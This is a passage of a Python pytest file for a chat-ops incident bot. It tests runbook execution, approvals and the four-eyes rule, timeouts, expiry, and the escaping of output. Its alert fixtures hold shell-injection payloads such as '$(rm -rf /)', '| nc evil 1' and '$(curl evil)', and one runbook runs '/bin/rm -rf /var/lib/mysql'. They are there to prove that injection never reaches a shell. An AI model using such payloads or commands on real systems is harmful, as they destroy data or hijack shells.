"""Runbooks end to end: the card's Run buttons, approvals checked on the server, and real processes run.

The real bot with slack-bolt (and python-telegram-bot) against the fake platform servers on 127.0.0.1, clicks signed
as Slack signs them; each runbook's steps are small Python scripts this test writes, run as real subprocesses.
"""

from __future__ import annotations

import asyncio
import json
import re
import sys
import time
from datetime import timedelta
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from sqlmodel import select

from storage.models import AuditEvent, RunbookRun
from tests import botkit
from tests.botkit import Harness, bot_on, fixture, running_bot, untagged
from tests.fake_slack import FakeSlack
from tests.fake_telegram import FakeTelegram
from tests.test_slack_flow import Slack, button_values, slack_config, text_of
from tests.test_telegram_flow import GROUP, TG_SECRET, Both

PEOPLE = """
people:
  - {id: alice, name: Alice, roles: [responder, approver], slack: U01ALICE, telegram: 111111}
  - {id: bob, name: Bob, roles: [responder, approver], slack: U02BOB}
  - {id: carol, name: Carol, roles: [approver], telegram: 333333}
  - {id: vic, name: Vic, slack: U04VIC}
"""
# Labels an attacker controls: none of this may ever reach a runbook's argv or a shell
NASTY = {"instance": "web-01; touch /tmp/pwned-$(id -u) `reboot` | nc evil 1 && $HOME", "job": "$(rm -rf /)"}

RECORD = """
import json, os, sys
with open(sys.argv[1], "a") as out:
    out.write(json.dumps({"argv": sys.argv, "env": dict(os.environ), "stdin": sys.stdin.read()}) + "\\n")
print("hello from the runbook")
print("\\x1b[31mred\\x1b[0m")
"""
FAIL = "import sys\nprint('disk is full', file=sys.stderr)\nsys.exit(3)\n"
SLEEP = "import time\nprint('sleeping', flush=True)\ntime.sleep(60)\n"


def runbook_config(tmp: Path) -> str:
    """Routes that list the runbooks, and the runbooks: scripts in `tmp`, run by this Python."""
    (tmp / "record.py").write_text(RECORD)
    (tmp / "fail.py").write_text(FAIL)
    (tmp / "sleep.py").write_text(SLEEP)
    py, rec = json.dumps(sys.executable), json.dumps(str(tmp / "record.py"))
    listed = "[greet, restart, broken, slow, hang, elsewhere]"
    return botkit.CONFIG.replace(
        "routes:\n  - {match: {team: dba}, channels: [ops-slack, ops-telegram]}\n  - {match: {}, channels: [ops-slack]}",
        f"routes:\n  - {{match: {{team: dba}}, channels: [ops-slack, ops-telegram], runbooks: {listed}}}\n"
        f"  - {{match: {{}}, channels: [ops-slack], runbooks: {listed}}}") + f"""
runbooks:
  - {{id: greet, title: Greet, risk: low, match: {{alertname: "=~High.*|DiskFull"}},
     steps: [{{run: [{py}, {rec}, {json.dumps(str(tmp / "greet.jsonl"))}, "fixed arg"], timeout: 10s}}]}}
  - {{id: restart, title: Restart web, risk: high,
     steps: [{{run: [{py}, {rec}, {json.dumps(str(tmp / "restart.jsonl"))}], timeout: 10s}}]}}
  - {{id: broken, title: Broken, steps: [{{run: [{py}, {json.dumps(str(tmp / "fail.py"))}], timeout: 10s}},
                                         {{run: [{py}, {rec}, {json.dumps(str(tmp / "never.jsonl"))}]}}]}}
  - {{id: slow, title: Slow, steps: [{{run: [{py}, {json.dumps(str(tmp / "sleep.py"))}], timeout: 1s}}]}}
  - {{id: hang, title: Hang, risk: medium, steps: [{{run: [{py}, {json.dumps(str(tmp / "sleep.py"))}], timeout: 5m}}]}}
  - {{id: elsewhere, title: Elsewhere, match: {{alertname: NotThisOne}}, steps: [{{run: [{py}, {rec}, x]}}]}}
"""


def nasty_alert(name: str = "alertmanager/03-highcpu-firing.json") -> dict[str, Any]:
    body = json.loads(fixture(name))
    for alert in body["alerts"]:
        alert["labels"].update(NASTY)
        alert["annotations"]["summary"] = "`rm -rf /` $(curl evil) && reboot"
    return body


@pytest.fixture(params=["sqlite", "postgres"])
async def slack(request: pytest.FixtureRequest, tmp_path: Path, pg_schema: str) -> AsyncIterator[Slack]:
    async with FakeSlack() as fake, bot_on(request.param, tmp_path, pg_schema, slack_config(fake), people=PEOPLE,
                                           base=runbook_config(tmp_path)) as h:
        yield Slack(h, fake)


async def posted(s: Slack, body: dict[str, Any] | None = None) -> str:
    status, _, _ = await s.h.post("am", body or nasty_alert())
    assert status == 200
    await s.fake.wait_for(lambda: s.posts(), timeout=5)
    for _ in range(100):
        try:
            return await s.h.message_of(1)
        except Exception:
            await asyncio.sleep(0.02)
    return await s.h.message_of(1)


async def thread_says(s: Slack, ts: str, words: str) -> str:
    """The incident's thread line that says `words`, once the runs in progress ended. A line the fake turned away
    (429) waits for its Retry-After on the bot's clock: the clock moves a second at a time meanwhile."""
    await s.h.bot.runbooks.idle()
    for _ in range(50):
        found = [text_of(p) for p in s.posts(thread=ts) if words in text_of(p)]
        if found:
            return found[0]
        s.h.clock.advance(timedelta(seconds=1))
        s.h.bot.outbox.nudge()
        await asyncio.sleep(0.2)
    raise AssertionError(f"the thread never said {words!r}: {[text_of(p) for p in s.posts(thread=ts)]}")


async def runs(h: Harness) -> list[RunbookRun]:
    async with h.bot.db.sessions() as session:
        return list((await session.execute(select(RunbookRun).order_by(RunbookRun.id))).scalars().all())


def recorded(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_text().splitlines()] if path.exists() else []


def dm_buttons(s: Slack, user: str) -> list[str]:
    """The button values of the direct messages the bot sent `user` on Slack."""
    opened = {c.params["users"]: c for c in s.fake.called("conversations.open")}
    assert user in opened, f"no direct message to {user}"
    return [v for c in s.fake.called("chat.postMessage") if str(c.params.get("channel", "")).startswith("D")
            for v in button_values(c.params, tagged=True)]


async def test_low_risk_runs_at_once_with_its_argv_as_written_and_says_how_it_ended(
        slack: Slack, tmp_path: Path) -> None:
    s = slack
    ts = await posted(s)
    [post] = s.posts()
    values = button_values(post)
    assert values == ["ack:1", "res:1", "rb:1:greet", "rb:1:restart", "rb:1:broken", "rb:1:slow",
                      "rb:1:hang"]  # Elsewhere's match does not hold for this alert's labels
    blocks = json.dumps(post["blocks"])
    assert "Run: Greet" in blocks and "Run Greet on #1?" in blocks and "approver approves it" in blocks

    _, elapsed, key = await s.click("rb:1:greet", ts)
    assert elapsed < 1.0
    assert (await s.answer(key))["text"] == "Running Greet on #1 now; the thread gets its result."
    line = await thread_says(s, ts, "Runbook Greet")
    assert "Runbook Greet (asked by Alice) finished: step 1 `" in line and "exit 0 in " in line
    assert "hello from the runbook" in line and "\\\\x1b[31mred" in line  # its output, control characters escaped

    [call] = recorded(tmp_path / "greet.jsonl")
    # exactly app.yaml's argv: nothing of the alert (its labels, its summary) reached the process
    assert call["argv"] == [str(tmp_path / "record.py"), str(tmp_path / "greet.jsonl"), "fixed arg"]
    assert set(call["env"]) - {"LC_CTYPE"} == {"PATH", "LANG"} and call["stdin"] == ""
    assert not any(v in json.dumps(call) for v in NASTY.values())
    [run] = await runs(s.h)
    assert (run.status, run.requested_by, run.approved_by) == ("succeeded", "alice", None)
    assert run.results[0]["exit"] == 0 and "hello from the runbook" in run.output and "\\x1b[31mred" in run.output
    assert [a for a in await s.h.actions(1) if a.startswith("runbook.")] == [
        "runbook.requested", "runbook.started", "runbook.finished"]


async def test_a_failing_step_stops_the_run_and_a_step_past_its_timeout_is_killed(slack: Slack, tmp_path: Path) -> None:
    s = slack
    ts = await posted(s)
    _, _, key = await s.click("rb:1:broken", ts)
    await s.answer(key)
    line = await thread_says(s, ts, "Runbook Broken")
    assert "Runbook Broken (asked by Alice) failed: step 1 `" in line and "exit 3 in" in line
    assert "disk is full" in line and "step 2" not in line
    assert not (tmp_path / "never.jsonl").exists()  # the step after the failing one never ran

    started = time.monotonic()
    _, _, key = await s.click("rb:1:slow", ts)
    await s.answer(key)
    line = await thread_says(s, ts, "Runbook Slow")
    assert time.monotonic() - started < 10
    assert "Runbook Slow (asked by Alice) failed: step 1 `" in line and "timed out after 1." in line
    assert "was killed" in line and "sleeping" in line
    broken, slow = await runs(s.h)
    assert (broken.status, broken.results[0]["exit"], len(broken.results)) == ("failed", 3, 1)
    assert slow.status == "failed" and slow.results[0]["timed_out"] is True


async def test_high_risk_waits_for_another_approver_and_a_double_approve_runs_once(slack: Slack, tmp_path: Path) -> None:
    s = slack
    ts = await posted(s)
    _, _, key = await s.click("rb:1:restart", ts, user="U04VIC")  # a viewer: no responder role
    assert "needs the `responder` role" in (await s.answer(key))["text"]
    assert await runs(s.h) == []

    _, _, key = await s.click("rb:1:restart", ts)
    assert (await s.answer(key))["text"] == ("Asked to run Restart web on #1: it is high risk, so it runs once an "
                                              "approver (Bob, Carol) approves it.")
    asked = await thread_says(s, ts, "asks to run")
    assert "Alice asks to run runbook Restart web (high risk): `" in asked and "record.py" in asked
    await s.fake.wait_for(lambda: s.fake.called("conversations.open"), timeout=5)
    await s.fake.wait_for(lambda: dm_buttons(s, "U02BOB"), timeout=5)
    approve = next(v for v in dm_buttons(s, "U02BOB") if v.startswith("apv:"))
    assert untagged(approve) == "apv:1:1" and [untagged(v) for v in dm_buttons(s, "U02BOB")] == ["apv:1:1", "rej:1:1"]
    assert (await runs(s.h))[0].status == "requested" and recorded(tmp_path / "restart.jsonl") == []

    _, _, key = await s.click(approve, ts, user="U01ALICE")  # her own request
    assert (await s.answer(key))["text"] == ("You asked to run Restart web on #1, so someone else must approve it "
                                              "(four eyes): another person with the `approver` role.")
    _, _, key = await s.click(approve, ts, user="U04VIC")
    assert "needs the `approver` role" in (await s.answer(key))["text"]
    assert (await runs(s.h))[0].status == "requested"

    _, _, first = await s.click(approve, ts, user="U02BOB")
    _, _, second = await s.click(approve, ts, user="U02BOB")
    assert (await s.answer(first))["text"] == "Approved: Restart web runs on #1 now."
    assert "already" in (await s.answer(second))["text"] and "nothing more was done" in (await s.answer(second))["text"]
    line = await thread_says(s, ts, "Runbook Restart web")
    assert "Runbook Restart web (approved by Bob) finished: step 1" in line
    assert len(recorded(tmp_path / "restart.jsonl")) == 1  # approved twice, run once
    _, _, key = await s.click(approve, ts, user="U01ALICE")  # late: the run is over, and says who approved it
    assert (await s.answer(key))["text"] == "Restart web on #1 already ran (approved by Bob): nothing more was done."
    [run] = await runs(s.h)
    assert (run.status, run.requested_by, run.approved_by) == ("succeeded", "alice", "bob")
    assert [a for a in await s.h.actions(1) if a.startswith("runbook.")] == [
        "runbook.requested", "runbook.approved", "runbook.started", "runbook.finished"]
    # The refusals of who may not (a role they lack, four eyes) are in the audit log: they left no trace.
    async with s.h.bot.db.sessions() as session:
        refused = (await session.execute(select(AuditEvent).where(AuditEvent.action == "access.refused")
                                         .order_by(AuditEvent.seq))).scalars().all()
    assert [(e.actor_person, e.incident_id, e.details["what"], e.details["needs"]) for e in refused] == [
        ("vic", 1, "Run runbook", "responder"),
        ("alice", 1, "Approve", "another approver (four eyes): they asked for it"),
        ("vic", 1, "Approve", "approver")]


async def test_an_approval_or_a_run_asked_for_as_the_bot_stops_runs_nothing(more: Slack, tmp_path: Path) -> None:
    """The runs stop before the adapters do (Bot.stop), which still take clicks: an Approve handled then started
    the run as the bot stopped, which left it running past the stop, to be cut off."""
    s = more
    ts = await posted(s)
    _, _, key = await s.click("rb:1:restart", ts)
    assert "runs once an approver" in (await s.answer(key))["text"]
    await s.fake.wait_for(lambda: s.fake.called("conversations.open"), timeout=5)
    await s.fake.wait_for(lambda: dm_buttons(s, "U02BOB"), timeout=5)
    approve = next(v for v in dm_buttons(s, "U02BOB") if v.startswith("apv:"))
    await s.h.bot.runbooks.stop()  # as Bot.stop does first
    _, _, key = await s.click(approve, ts, user="U02BOB")
    assert (await s.answer(key))["text"] == ("The bot is stopping (a restart or an upgrade), so the request still "
                                              "waits and nothing was run: approve it in a minute, once it is back.")
    _, _, key = await s.click("rb:1:greet", ts)  # low risk: it would run at once
    assert (await s.answer(key))["text"] == ("The bot is stopping (a restart or an upgrade), so nothing was asked for "
                                              "or run: ask again in a minute, once it is back.")
    assert [run.status for run in await runs(s.h)] == ["requested"]
    assert recorded(tmp_path / "restart.jsonl") == [] and not s.h.bot.runbooks._tasks
    assert [a for a in await s.h.actions(1) if a.startswith("runbook.")] == ["runbook.requested"]


async def test_a_run_stored_as_the_bot_began_to_stop_says_it_did_not_start(more: Slack) -> None:
    """The stop came while the request was being stored: the answer said "Running ... now", and nothing ran."""
    s = more
    ts = await posted(s)
    handlers = s.h.bot.runbooks
    start = handlers.start

    async def stopping_meanwhile(run_id: int) -> bool:
        handlers._stopping = True  # (as RunbookHandlers.stop sets it)
        return await start(run_id)

    handlers.start = stopping_meanwhile  # type: ignore[method-assign]
    _, _, key = await s.click("rb:1:greet", ts)
    assert (await s.answer(key))["text"] == ("The bot began to stop (a restart or an upgrade) as this was stored, so "
                                              "Greet on #1 did not start; ask for it again in a minute, once it is "
                                              "back.")
    assert [run.status for run in await runs(s.h)] == ["approved"] and not handlers._tasks  # (interrupted at start)


async def test_a_rejected_run_never_runs_and_says_who_rejected_it(slack: Slack, tmp_path: Path) -> None:
    s = slack
    ts = await posted(s)
    answer = await s.answer(await s.command("/incident", "runbook 1"))
    assert "`greet`: Greet (low risk)" in answer["text"] and "`elsewhere`" not in answer["text"]
    await s.answer(await s.command("/incident", "runbook 1 restart"))
    await s.fake.wait_for(lambda: s.fake.called("conversations.open") and dm_buttons(s, "U02BOB"), timeout=5)
    reject = next(v for v in dm_buttons(s, "U02BOB") if v.startswith("rej:"))
    _, _, key = await s.click(reject, ts, user="U02BOB")
    assert (await s.answer(key))["text"] == "Rejected: Restart web does not run on #1."
    await thread_says(s, ts, "Bob rejected running runbook Restart web (asked by Alice)")
    approve = reject.replace("rej:", "apv:")
    _, _, key = await s.click(approve, ts, user="U02BOB")
    assert (await s.answer(key))["text"] == "Restart web on #1 was already rejected by you: nothing more was done."
    [run] = await runs(s.h)
    assert (run.status, run.rejected_by) == ("rejected", "bob") and recorded(tmp_path / "restart.jsonl") == []
    assert [a for a in await s.h.actions(1) if a.startswith("runbook.")] == ["runbook.requested", "runbook.rejected"]


async def test_a_run_the_bot_stopped_in_is_marked_interrupted_at_start_and_not_run_again(tmp_path: Path) -> None:
    url = f"sqlite+aiosqlite:///{tmp_path / 'bot.db'}"
    async with FakeSlack() as fake:
        s: Slack | None = None
        async with running_bot(url, slack_config(fake), people=PEOPLE, base=runbook_config(tmp_path)) as h:
            s = Slack(h, fake)
            ts = await posted(s)
            _, _, key = await s.click("rb:1:hang", ts, user="U02BOB")
            _, _, key = await s.click("apv:1:1", ts)
            assert "Approved" in (await s.answer(key))["text"]
            for _ in range(100):
                if (await runs(h))[0].status == "running":
                    break
                await asyncio.sleep(0.05)
        async with running_bot(url, slack_config(fake), people=PEOPLE, base=runbook_config(tmp_path)) as h:
            s = Slack(h, fake)
            [run] = await runs(h)
            assert run.status == "interrupted"
            line = await thread_says(s, ts, "was interrupted")
            assert "Runbook Hang was interrupted: the bot stopped while it ran. It was not run again" in line
            assert "runbook.finished" in await h.actions(1)
            await asyncio.sleep(0.3)
            assert (await runs(h))[0].status == "interrupted" and not h.bot.runbooks._tasks


@pytest.fixture
async def both(tmp_path: Path) -> AsyncIterator[Both]:
    async with FakeSlack() as slack, FakeTelegram() as tg:
        extra = slack_config(slack) + (f"  telegram: {{bot_token: '{tg.token}', webhook_secret: {TG_SECRET}, "
                                       f"api_url: '{tg.api_url}'}}\n")
        async with running_bot(f"sqlite+aiosqlite:///{tmp_path / 'bot.db'}", extra, people=PEOPLE,
                               base=runbook_config(tmp_path)) as h:
            yield Both(h, Slack(h, slack), tg)


async def test_an_approver_approves_in_telegram_and_the_group_thread_gets_the_result(both: Both, tmp_path: Path) -> None:
    b = both
    status, _, _ = await b.h.post("am", nasty_alert("alertmanager/01-diskfull-firing-2-alerts.json"))  # both chats
    assert status == 200
    await b.tg.wait_for(lambda: b.tg.called("sendMessage"), timeout=5)
    [card] = b.tg.called("sendMessage")
    assert "?rb:1:restart" in [untagged(k["callback_data"]) for row in card.params["reply_markup"]["inline_keyboard"]
                               for k in row]
    answer = await b.slack.answer(await b.slack.command("/incident", "runbook 1 restart"))
    assert "approver (Bob, Carol)" in answer["text"]
    await b.tg.wait_for(lambda: any(c.params["chat_id"] == 333333 for c in b.tg.called("sendMessage")), timeout=5)
    dm = next(mid for (chat, mid) in b.tg.messages if chat == 333333)
    assert "Alice asks to run runbook Restart web (high risk)" in b.tg.messages[(333333, dm)]["text"]
    assert b.tg_keyboard(dm, 333333) == ["apv:1:1", "rej:1:1"]
    await b.tap("apv:1:1", dm, user=333333, chat=333333)
    await b.h.bot.runbooks.idle()
    [run] = await runs(b.h)
    assert (run.status, run.approved_by) == ("succeeded", "carol")
    assert len(recorded(tmp_path / "restart.jsonl")) == 1
    group = int(await b.h.message_of(1, "ops-telegram"))
    b.h.bot.outbox.nudge()

    def said() -> bool:
        return any("Runbook Restart web (approved by Carol) finished" in str(c.params.get("text"))
                   for c in b.tg.called("sendMessage") if c.params["chat_id"] == GROUP
                   and (c.params.get("reply_parameters") or {}).get("message_id") == group)
    await b.tg.wait_for(said, timeout=10)
    # A page to a person draws the card without Run buttons: at 3 a.m. it asks for an acknowledgement, and nothing
    # that runs a command sits beside Acknowledge on a lock screen (the channel's card and `incident show` offer them)
    paged = await b.slack.answer(await b.slack.command("/incident", "page 1 alice"))
    assert paged["text"] == "Paged Alice on Telegram."
    page = max(mid for (chat, mid) in b.tg.messages if chat == 111111)
    assert [k for k in b.tg_keyboard(page, 111111) if "rb:" in k] == []
    assert "?rb:1:restart" in b.tg_keyboard(next(mid for (chat, mid) in b.tg.messages if chat == GROUP), GROUP)


async def test_a_replica_starting_leaves_another_replicas_run_alone_until_it_is_past_its_time(
        tmp_path: Path, pg_schema: str) -> None:
    """At start every run still `running` was marked interrupted: with two replicas on PostgreSQL, a replica starting
    (a rolling restart) marked the run another replica was running, and its result later contradicted the thread.
    Now a replica takes only runs past their steps' timeouts (5 min here) and a minute: never one still going."""
    from tests.conftest import drop_schema, postgres_url

    url = postgres_url()
    try:
        async with FakeSlack() as fake:
            async with running_bot(url, slack_config(fake), schema=pg_schema, people=PEOPLE,
                                   base=runbook_config(tmp_path)) as a:
                s = Slack(a, fake)
                ts = await posted(s)
                _, _, key = await s.click("rb:1:hang", ts, user="U02BOB")
                _, _, key = await s.click("apv:1:1", ts)
                assert "Approved" in (await s.answer(key))["text"]
                for _ in range(100):
                    if (await runs(a))[0].status == "running":
                        break
                    await asyncio.sleep(0.05)
                async with running_bot(url, slack_config(fake), schema=pg_schema, people=PEOPLE,
                                       base=runbook_config(tmp_path)) as b:  # B starts while A runs it
                    assert [r.status for r in await runs(b)] == ["running"]
                    b.clock.advance(timedelta(minutes=5))
                    assert await b.bot.runbooks.sweep() == 0  # within its 5 min and the minute's grace
                    b.clock.advance(timedelta(minutes=1, seconds=1))
                    assert await b.bot.runbooks.sweep() == 1  # A would have killed it by now: its bot is gone
                    assert [r.status for r in await runs(b)] == ["interrupted"]
    finally:
        await drop_schema(url, pg_schema)


# -- a request that waits does not wait for ever ------------------------------------------------------------------


async def test_an_approval_is_checked_against_app_yaml_as_it_is_now(tmp_path: Path) -> None:
    """A request waits across a restart: if app.yaml dropped the runbook, or changed what it runs, since it was asked
    for, the approver is told so and nothing runs (what they would approve is no longer what app.yaml says)."""
    url = f"sqlite+aiosqlite:///{tmp_path / 'bot.db'}"
    async with FakeSlack() as fake:
        async with running_bot(url, slack_config(fake), people=PEOPLE, base=runbook_config(tmp_path)) as h:
            s = Slack(h, fake)
            ts = await posted(s)
            assert "Asked to run Restart web" in (await s.answer(await s.command("/incident", "runbook 1 restart")))["text"]
            assert "Asked to run Hang" in (await s.answer(await s.command("/incident", "runbook 1 hang")))["text"]
        changed = (runbook_config(tmp_path).replace("[greet, restart, broken,", "[greet, broken,")
                   .replace("timeout: 5m}", "timeout: 6m}"))
        changed = "\n".join(line for line in changed.split("\n") if "id: restart," not in line
                            and "restart.jsonl" not in line)
        async with running_bot(url, slack_config(fake), people=PEOPLE, base=changed) as h:
            s = Slack(h, fake)
            _, _, key = await s.click("apv:1:1", ts, user="U02BOB")
            assert (await s.answer(key))["text"] == ("Restart web no longer applies to #1 in app.yaml (it changed since "
                                                      "Alice asked), so it was not approved.")
            _, _, key = await s.click("apv:1:2", ts, user="U02BOB")
            assert (await s.answer(key))["text"] == "Hang changed in app.yaml since Alice asked; ask again."
            await h.bot.runbooks.idle()
            assert [(r.status, r.approved_by) for r in await runs(h)] == [("cancelled", None), ("cancelled", None)]
            assert recorded(tmp_path / "restart.jsonl") == []
            await thread_says(s, ts, "Alice's request to run Hang was cancelled: Hang changed in app.yaml")
            assert [a for a in await h.actions(1) if a.startswith("runbook.")] == [
                "runbook.requested", "runbook.requested", "runbook.cancelled", "runbook.cancelled"]
            # no longer in the way: Hang can be asked for again, as app.yaml says it now
            assert "Asked to run Hang" in (await s.answer(await s.command("/incident", "runbook 1 hang")))["text"]


async def test_a_request_made_before_the_incident_was_resolved_and_reopened_is_not_approved(
        slack: Slack, tmp_path: Path) -> None:
    s = slack
    ts = await posted(s)
    await s.answer(await s.command("/incident", "runbook 1 restart"))
    assert "Resolved" in (await s.answer(await s.command("/incident", "resolve 1", user="U02BOB")))["text"]
    assert "Reopened" in (await s.answer(await s.command("/incident", "reopen 1", user="U02BOB")))["text"]
    _, _, key = await s.click("apv:1:1", ts, user="U02BOB")
    assert (await s.answer(key))["text"] == ("#1 was resolved after Alice asked to run Restart web, so it was not "
                                              "approved; ask again if it still needs it.")
    await s.h.bot.runbooks.idle()
    [run] = await runs(s.h)
    assert run.status == "cancelled" and recorded(tmp_path / "restart.jsonl") == []


async def test_a_waiting_request_expires_and_one_on_a_resolved_incident_is_cancelled(slack: Slack, tmp_path: Path) -> None:
    s = slack
    ts = await posted(s)
    await s.answer(await s.command("/incident", "runbook 1 restart"))
    s.h.clock.advance(timedelta(minutes=59))
    await s.h.bot.runbooks.sweep()
    assert [r.status for r in await runs(s.h)] == ["requested"]  # within its hour
    s.h.clock.advance(timedelta(minutes=2))
    await s.h.bot.runbooks.sweep()
    assert [r.status for r in await runs(s.h)] == ["expired"]
    await thread_says(s, ts, "Alice's request to run Restart web expired: nobody approved it within 1 h")
    _, _, key = await s.click("apv:1:1", ts, user="U02BOB")
    assert (await s.answer(key))["text"] == ("Restart web on #1 expired (nobody approved it within 1 h): nothing more "
                                              "was done.")
    assert recorded(tmp_path / "restart.jsonl") == []

    await s.answer(await s.command("/incident", "runbook 1 hang"))
    await s.answer(await s.command("/incident", "resolve 1", user="U02BOB"))
    for _ in range(50):  # (a sweep skips a request another transaction holds: the bot's own sweep, now and then)
        await s.h.bot.runbooks.sweep()
        if [r.status for r in await runs(s.h)] == ["expired", "cancelled"]:
            break
        await asyncio.sleep(0.1)
    assert [r.status for r in await runs(s.h)] == ["expired", "cancelled"]
    await thread_says(s, ts, "Alice's request to run Hang was cancelled: #1 was resolved before anyone approved it")
    assert [a for a in await s.h.actions(1) if a.startswith("runbook.")] == [
        "runbook.requested", "runbook.expired", "runbook.requested", "runbook.cancelled"]


async def test_a_request_decided_after_its_hour_expires_even_before_the_sweep_comes_round(
        slack: Slack, tmp_path: Path) -> None:
    """The sweep that expires requests runs once a minute: a click in between approved a request past its hour, and
    it ran. A decision after the hour finds it expired (and says so), whoever clicks."""
    s = slack
    ts = await posted(s)
    await s.answer(await s.command("/incident", "runbook 1 restart"))
    s.h.clock.advance(timedelta(minutes=61))  # no sweep since
    _, _, key = await s.click("apv:1:1", ts, user="U02BOB")
    assert (await s.answer(key))["text"] == ("Restart web on #1 expired (nobody approved it within 1 h): nothing more "
                                              "was done.")
    await s.h.bot.runbooks.idle()
    assert [r.status for r in await runs(s.h)] == ["expired"] and recorded(tmp_path / "restart.jsonl") == []
    await thread_says(s, ts, "Alice's request to run Restart web expired: nobody approved it within 1 h")
    assert [a for a in await s.h.actions(1) if a.startswith("runbook.")] == ["runbook.requested", "runbook.expired"]
    # whoever asked, taking it back after the hour, finds it expired too (not withdrawn)
    await s.answer(await s.command("/incident", "runbook 1 hang"))
    s.h.clock.advance(timedelta(minutes=61))
    _, _, key = await s.click("rej:1:2", ts, user="U01ALICE")
    assert (await s.answer(key))["text"] == "Hang on #1 expired (nobody approved it within 1 h): nothing more was done."
    assert [r.status for r in await runs(s.h)] == ["expired", "expired"]


# -- what a run says, and what it leaves behind --------------------------------------------------------------------

NOISY = "for i in range(30):\n    print(f'progress {i:02d} ' + 'x' * 40)\nprint('FATAL: disk is full on /var')\nraise SystemExit(1)\n"
ORPHAN = """
import subprocess, sys
child = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(300)"])
open(sys.argv[1], "w").write(str(child.pid))
print("left a child behind")
"""
DAVE = "  - {id: dave, name: Dave, roles: [responder], slack: U05DAVE}\n"  # asks, cannot approve


def more_runbooks(tmp: Path) -> str:
    """runbook_config and three more: Noisy (much output, the error last), Orphan (leaves a child running) and No
    start (a program that is not there)."""
    (tmp / "noisy.py").write_text(NOISY)
    (tmp / "orphan.py").write_text(ORPHAN)
    py = json.dumps(sys.executable)
    return runbook_config(tmp).replace("hang, elsewhere]", "hang, elsewhere, noisy, orphan, nostart, two, long, tick, many]") + f"""
  - {{id: noisy, title: Noisy, steps: [{{run: [{py}, {json.dumps(str(tmp / "noisy.py"))}]}}]}}
  - {{id: orphan, title: Orphan, steps: [{{run: [{py}, {json.dumps(str(tmp / "orphan.py"))},
                                                 {json.dumps(str(tmp / "orphan.pid"))}]}}]}}
  - {{id: nostart, title: No start, steps: [{{run: [{json.dumps(str(tmp / "not-there"))}]}}]}}
  - {{id: long, title: Long, risk: high, steps: [{{run: [{py}, -c, "print(1)", "{'a' * 230}", HIDDEN-TAIL]}}]}}
  - {{id: tick, title: Tick, risk: high, steps: [{{run: [sh, -c, "echo host=`hostname` ; echo done"]}}]}}
  - {{id: many, title: Many, risk: high, steps: [{", ".join("{run: [/usr/bin/systemctl, restart, service-number-%d]}" % n
                                                          for n in range(13))}, {{run: [/bin/rm, -rf, /var/lib/mysql]}}]}}
  - {{id: two, title: Two steps, steps: [{{run: [{py}, -c, "print('FIRST step done', end='')"]}},
                                         {{run: [{py}, -c, "print('exit 1' + chr(0x202e) + '0 tixe')"]}}]}}
"""


@pytest.fixture
async def more(tmp_path: Path, pg_schema: str) -> AsyncIterator[Slack]:
    async with FakeSlack() as fake, bot_on("sqlite", tmp_path, pg_schema, slack_config(fake), people=PEOPLE + DAVE,
                                           base=more_runbooks(tmp_path)) as h:
        yield Slack(h, fake)


async def test_a_failed_runs_line_keeps_the_end_of_its_output_where_the_error_is(more: Slack) -> None:
    s = more
    ts = await posted(s)
    await s.answer(await s.command("/incident", "runbook 1 noisy"))
    await thread_says(s, ts, "Runbook Noisy")
    [line] = [p["text"] for p in s.posts(thread=ts) if "Runbook Noisy" in p["text"]]
    assert line.startswith("Runbook Noisy (asked by Alice) failed: step 1 `") and "exit 1 in" in line
    assert line.endswith("progress 29 " + "x" * 40 + " | FATAL: disk is full on /var")  # the last lines, whole
    assert "Output: \u2026" in line and "progress 00" not in line and len(line) <= 300
    [run] = await runs(s.h)
    assert run.output.startswith("progress 11 ") and run.output.endswith("FATAL: disk is full on /var")
    # the whole output the run kept: `/incident runbook ID` lists the latest runs, and the last one's output
    answer = (await s.answer(await s.command("/incident", "runbook 1")))["text"]
    assert "Latest runs, newest first:\n1. Noisy: failed (asked by Alice)" in answer
    assert f"Output of 1. Noisy (failed), its last lines:\n```\n{run.output}\n```" in answer


async def test_a_runs_output_is_every_steps_with_bidi_controls_written_out(more: Slack) -> None:
    """A run kept the last step's output only (the first step's was lost), and a right-to-left override in it reached
    the thread as it was, making "exit 1" read as "exit 0"."""
    s = more
    ts = await posted(s)
    await s.answer(await s.command("/incident", "runbook 1 two"))
    await thread_says(s, ts, "Runbook Two steps")
    [line] = [p["text"] for p in s.posts(thread=ts) if "Runbook Two steps" in p["text"]]
    assert line.endswith("Output: FIRST step done | exit 1\\u202e0 tixe") and "\u202e" not in line
    [run] = await runs(s.h)
    assert (run.status, run.output) == ("succeeded", "FIRST step done\nexit 1\\u202e0 tixe")


def dm_texts(s: Slack) -> list[str]:
    return [c.params["text"] for c in s.fake.called("chat.postMessage") if str(c.params.get("channel", "")).startswith("D")]


async def test_an_approver_is_shown_the_whole_command_as_it_runs(more: Slack) -> None:
    """A command longer than 200 characters was cut everywhere an approver could read it (its end hidden), and one
    holding a backtick ended its code span early (Slack showed `hostname` as plain text, the backticks gone). The
    approver's message and `/incident runbook` show each whole; the thread line, which holds 300 characters, says
    where; a backtick in the alert's title does not become code beside the command."""
    s = more
    body = nasty_alert()
    for alert in body["alerts"]:
        alert["annotations"]["summary"] = "`rm -rf /` is fine"
    ts = await posted(s, body)
    await s.answer(await s.command("/incident", "runbook 1 long"))
    await s.answer(await s.command("/incident", "runbook 1 tick"))
    await s.fake.wait_for(lambda: len(dm_texts(s)) >= 2, timeout=10)
    long_dm, tick_dm = sorted(dm_texts(s), key=lambda t: "Tick" in t)
    assert f"`{sys.executable} -c 'print(1)' {'a' * 230} HIDDEN-TAIL`. Approve it?" in long_dm
    assert "```sh -c 'echo host=`hostname` ; echo done'```. Approve it?" in tick_dm
    assert "on #1 \u2018rm -rf /\u2018 is fine" in tick_dm and "`rm" not in tick_dm
    line = await thread_says(s, ts, "asks to run runbook Long")
    [line] = [p["text"] for p in s.posts(thread=ts) if "asks to run runbook Long" in p["text"]]
    assert len(line) <= 300 and "HIDDEN-TAIL" not in line
    assert line.endswith("(cut here: each approver's message and `/incident runbook 1` show them whole). It waits "
                         "for an approver.")
    listing = (await s.answer(await s.command("/incident", "runbook 1")))["text"]
    assert f"`long`: Long (high risk): `{sys.executable} -c 'print(1)' {'a' * 230} HIDDEN-TAIL`" in listing
    assert "`tick`: Tick (high risk): ```sh -c 'echo host=`hostname` ; echo done'```" in listing


async def test_a_runbook_of_many_steps_says_on_its_line_how_many_are_not_shown(more: Slack) -> None:
